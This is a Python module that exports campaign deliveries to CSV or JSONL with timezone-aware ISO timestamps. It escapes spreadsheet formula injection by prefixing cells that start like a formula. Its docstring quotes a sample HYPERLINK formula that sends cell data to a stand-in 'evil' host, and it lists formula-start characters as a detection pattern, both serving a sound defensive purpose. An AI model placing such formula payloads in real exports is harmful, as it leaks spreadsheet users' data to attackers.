"""Campaign exports (CSV / JSONL) for people and spreadsheets: each ``sent_at`` epoch gets an ISO 8601 twin
with the UTC offset of the sending account's timezone (``2026-11-11T09:00:02.125+08:00``), so a reader
needs no conversion and a program keeps the exact epoch.

CSV is opened by spreadsheets, which run a cell that starts like a formula: a vendor's error
``=HYPERLINK("http://evil…"&A2, …)`` would. So a CSV cell starting with ``=``, ``+``, ``-``, ``@``, tab or
CR gets a leading ``'`` (OWASP, "CSV Injection"), unless it is a plain number (``-5``); JSONL stays exact."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from datetime import datetime
from functools import lru_cache
from typing import Any
from zoneinfo import ZoneInfo, ZoneInfoNotFoundError

from scheduler.intake.campaigns import DELIVERY_COLUMNS, Campaigns
from worker.store.ledger import RESULT_FIELDS

#: The export's CSV columns: the delivery's, with ``sent_at_iso`` right after ``sent_at``.
EXPORT_COLUMNS = [c for name in DELIVERY_COLUMNS for c in ((name, "sent_at_iso") if name == "sent_at" else (name,))]


#: What a spreadsheet reads as the start of a formula (OWASP's list).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def neutralised(value: Any) -> Any:
    """A CSV cell a spreadsheet will not run: a leading ``'`` before a formula start (not before a number)."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def escaped(value: str) -> str:
    """A CSV cell that is :func:`neutralised` and can be read back exactly (:func:`restored`): a value that
    itself starts with ``'`` and then a formula start or another ``'`` gets one more ``'``."""
    if value[:1] == "'" and value[1:2] and value[1] in (*FORMULA_START, "'"):
        return "'" + value
    return str(neutralised(value))


def restored(cell: str) -> str:
    """The value :func:`escaped` (or :func:`neutralised`) wrote: one leading ``'`` before a formula start or
    another ``'`` is taken off; any other cell is as it reads."""
    if cell[:1] == "'" and cell[1:2] and cell[1] in (*FORMULA_START, "'"):
        return cell[1:]
    return cell


def iso_time(epoch: float | None, timezone: str) -> str | None:
    """``epoch`` as ISO 8601 with milliseconds and the offset of ``timezone`` (UTC if it is unknown)."""
    if epoch is None:
        return None
    try:
        zone = ZoneInfo(timezone)
    except (ZoneInfoNotFoundError, ValueError):
        zone = ZoneInfo("UTC")
    return datetime.fromtimestamp(epoch, zone).isoformat(timespec="milliseconds")


def export_deliveries(
    campaigns: Campaigns, cid: str, *, status: str | None, fmt: str, timezone_of: Callable[[str], str]
) -> Iterator[str]:
    """Every delivery as CSV rows or JSONL lines, page by page (a campaign of any size in bounded memory)."""
    zone = lru_cache(maxsize=1024)(timezone_of)

    def with_iso(item: dict[str, Any]) -> dict[str, Any]:
        timezone = zone(item["account"])
        iso = iso_time(item.get("sent_at"), timezone)
        out: dict[str, Any] = {}
        for key, value in item.items():
            out[key] = value
            if key == "sent_at":
                out["sent_at_iso"] = iso
            elif key == "parts" and value:  # each part went out at its own time (a gap between parts)
                out[key] = [{**part, "sent_at_iso": iso_time(part.get("sent_at"), timezone)} for part in value]
        return out

    cursor: int | None = 0
    if fmt == "csv":
        buffer = io.StringIO()
        csv.DictWriter(buffer, fieldnames=EXPORT_COLUMNS).writeheader()
        yield buffer.getvalue()
    while cursor is not None:
        items, cursor = campaigns.deliveries(cid, status=status, cursor=cursor, limit=1000)
        if fmt == "csv":
            buffer = io.StringIO()
            writer = csv.DictWriter(buffer, fieldnames=EXPORT_COLUMNS, extrasaction="ignore")
            for item in items:
                row = with_iso(item)
                parts = row.pop("parts", None) or []
                result = row.pop("result", None) or {}
                if not parts:
                    writer.writerow({name: neutralised(value) for name, value in {**row, **result}.items()})
                # a sequence: one row per part (what went to the recipient, message by message), its own ids
                for part in parts:
                    ids = {name: part.get(name) for name in RESULT_FIELDS}
                    cells = {"part": part["index"] + 1, "part_kind": part.get("kind"), "part_status": part["status"],
                             "sent_at": part.get("sent_at"), "sent_at_iso": part.get("sent_at_iso")}  # fmt: skip
                    writer.writerow({name: neutralised(value) for name, value in {**row, **ids, **cells}.items()})
            yield buffer.getvalue()
        else:
            yield "".join(json.dumps(with_iso(item), ensure_ascii=False) + "\n" for item in items)
